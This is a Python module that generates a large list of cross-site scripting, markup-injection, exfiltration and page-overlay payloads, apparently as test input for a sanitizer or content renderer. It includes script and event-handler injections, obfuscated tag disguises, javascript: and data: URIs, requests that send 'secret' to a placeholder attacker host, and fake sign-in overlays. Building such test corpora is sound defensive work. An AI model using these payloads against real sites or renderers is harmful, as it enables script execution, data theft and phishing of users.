"""What a hostile article, or question, may say to run a script, to call another host, or to cover the page."""

from collections.abc import Iterator, Sequence
from itertools import product

# Each has a place for an address of another host; `ran` is set by whatever runs.
_PATTERNS = (
    "<script>window.ran=1</script>",
    "<script src={evil}/a.js></script>",
    "<SCRIPT SRC={evil}/b.js></SCRIPT>",
    "</script><script>window.ran=1</script>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "<img src=x onerror=window.ran=1>",
    "<img src={evil}/pixel?d=secret>",
    '<img srcset="{evil}/set 1x">',
    "<picture><source srcset={evil}/picture><img></picture>",
    "![x]({evil}/markdown?d=secret)",
    "![x][1]\n\n[1]: {evil}/reference",
    "[click]({evil}/link)",
    "[click](javascript:window.ran=1)",
    "<{evil}/auto>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><image href={evil}/svg></svg>",
    "<svg><use href={evil}/use.svg#x></use></svg>",
    "<svg><a href=javascript:window.ran=1><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=window.ran=1></mtext></math>",
    "<math href=javascript:window.ran=1>x</math>",
    "<iframe src={evil}/frame></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data={evil}/object></object>",
    "<embed src={evil}/embed>",
    "<video src={evil}/video poster={evil}/poster autoplay></video>",
    "<audio src={evil}/audio autoplay onerror=window.ran=1></audio>",
    "<video><source onerror=window.ran=1 src=x></video>",
    "<input type=image src={evil}/input>",
    "<input autofocus onfocus=window.ran=1>",
    "<form action={evil}/form><input name=d value=secret><button>Go on</button></form>",
    "<button formaction={evil}/formaction>Go on</button>",
    "<form id=f action={evil}/f></form><button form=f>Go on</button>",
    "<isindex action={evil}/isindex type=submit>",
    "<link rel=stylesheet href={evil}/style.css>",
    "<link rel=prefetch href={evil}/prefetch>",
    "<link rel=preload as=image href={evil}/preload>",
    "<style>@import url({evil}/import.css);body{{display:none}}</style>",
    "<style>*{{background:url({evil}/star)}}</style>",
    "<div style='background:url({evil}/background)'>x</div>",
    "<table background={evil}/table><tr><td>x</table>",
    "<body background={evil}/body onload=window.ran=1>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>Your session has ended</div>",
    "<dialog open style='position:fixed;inset:0'>Sign in</dialog>",
    "<a href={evil}/phish target=_top style='position:fixed;inset:0'>x</a>",
    "<a href=javascript:window.ran=1>x</a>",
    "<a href='data:text/html,<script>opener.ran=1</script>'>x</a>",
    "<base href={evil}/base/>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<textarea autofocus onfocus=window.ran=1></textarea>",
    "</textarea><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "\"'><img src=x onerror=window.ran=1>",
    "' onmouseover='window.ran=1' x='",
    '" autofocus onfocus="window.ran=1" x="',
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "<!--><img src=x onerror=window.ran=1>-->",
    "<![CDATA[<script>window.ran=1</script>]]>",
    "${{window.ran=1}} {{{{window.ran=1}}}} @children #{{window.ran=1}}",
    "\u202e>1=nar.wodniw<\u202c \u2066hidden\u2069 \u200f<b>\u200e",
    "\U000e003cscript\U000e003e \ufeff\u200b<scr\u0000ipt>window.ran=1</script>",
    "＜script＞window.ran=1＜/script＞",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
)


# What runs of itself, or once it is pointed at, clicked or typed into.
_EVENTS = {
    "body": "onload onpageshow onresize onscroll onhashchange onmessage onpopstate onbeforeprint onfocus onblur",
    "img src=x": "onerror onclick onmouseover onmouseenter onpointerover oncontextmenu",
    "svg": "onload onclick onfocusin onmouseover",
    "svg><set attributeName=x": "onbegin onend",
    "video src=x": "onerror onloadstart onstalled onsuspend onencrypted",
    "audio src=x": "onerror onloadstart oncanplay ontimeupdate",
    "input autofocus": "onfocus onblur oninput onchange oninvalid onselect onsearch",
    "select autofocus": "onfocus onchange",
    "button autofocus": "onfocus onclick onauxclick",
    "details open": "ontoggle onclick",
    "div popover": "onbeforetoggle ontoggle",
    "div style='animation:spin 1s'": "onanimationstart onanimationend onanimationiteration ontransitionend",
    "div draggable=true": "ondragstart ondragover ondrop oncopy oncut onpaste onwheel",
    "p contenteditable autofocus": "onfocus onbeforeinput onkeydown onkeyup onpointerdown",
    "marquee": "onstart onfinish onbounce",
    "x tabindex=1 autofocus": "onfocus onfocusin oncontentvisibilityautostatechange",
}
# Ways of writing a tag so that who looks for it does not see it.
_DISGUISES = (
    "<{upper} {rest}>", "<{name}/{rest}>", "<{name}\n{rest}\n>", "<{name}\t{rest}//", "<{name}\f{rest}>",
    "< {name} {rest}>", "<{name} {rest} <", "<<{name} {rest}>>", "<\u0000{name} {rest}>", "<{name}\u0000 {rest}>",
    "&lt;{name} {rest}&gt;", "&amp;lt;{name} {rest}&amp;gt;", "%3C{name} {rest}%3E", "\\u003c{name} {rest}\\u003e",
    "<x x='><{name} {rest}>'>", "<!-- --!><{name} {rest}>", "</p><{name} {rest}>", "`<{name} {rest}>`",
    "```\n</code></pre><{name} {rest}>\n```", "<template><{name} {rest}></template>",
)  # fmt: skip
_DISGUISED = (("img", "src=x onerror=window.ran=1"), ("svg", "onload=window.ran=1"), ("link", "rel=icon href={evil}/i"))
# Addresses that run, and where an address may stand.
_SCHEMES = (
    "javascript:window.ran=1", "JaVaScRiPt:window.ran=1", "java&#9;script:window.ran=1", "&#106;avascript:window.ran=1",
    "\u0001javascript:window.ran=1", " javascript&colon;window.ran=1", "javascript://%0awindow.ran=1",
    "data:text/html,<script>parent.ran=1</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
    "vbscript:window.ran=1", "//evil.example/protocol", "{evil}/plain",
)  # fmt: skip
_PLACES = (
    '<a href="{to}" ping="{evil}/ping">x</a>', '<iframe src="{to}"></iframe>', '<form action="{to}"><button>x</button>',
    '<meta http-equiv=refresh content="0;url={to}">', "[x]({to})", "![x]({to})", "[x]: {to}\n\n[x]",
)  # fmt: skip
# What may lie over the page.
_COVERS = ("div", "dialog open", "a href={evil}/over", "iframe src={evil}/over", "label", "section popover=manual")
_STYLES = (
    "position:fixed;inset:0;z-index:99999", "position:absolute;top:-99px;left:0;width:9999px;height:9999px",
    "margin:-9999px;padding:9999px;background:#fff", "transform:scale(99)",
)  # fmt: skip


def _patterns() -> Iterator[str]:
    yield from _PATTERNS
    for tag, events in _EVENTS.items():
        yield from (f"<{tag} {event}=window.ran=1>x" for event in events.split())
    for way, (name, rest) in product(_DISGUISES, _DISGUISED):
        yield way.format(name=name, upper=name.upper(), rest=rest)
    for place, scheme in product(_PLACES, _SCHEMES):
        yield place.replace("{to}", scheme)
    for tag, style in product(_COVERS, _STYLES):
        yield f"<{tag} style='{style}'>Sign in</{tag.split()[0]}>"


def payloads(evil: str) -> Sequence[str]:
    """All of them, with the address of the other host in them."""
    return [pattern.format(evil=evil) for pattern in _patterns()]
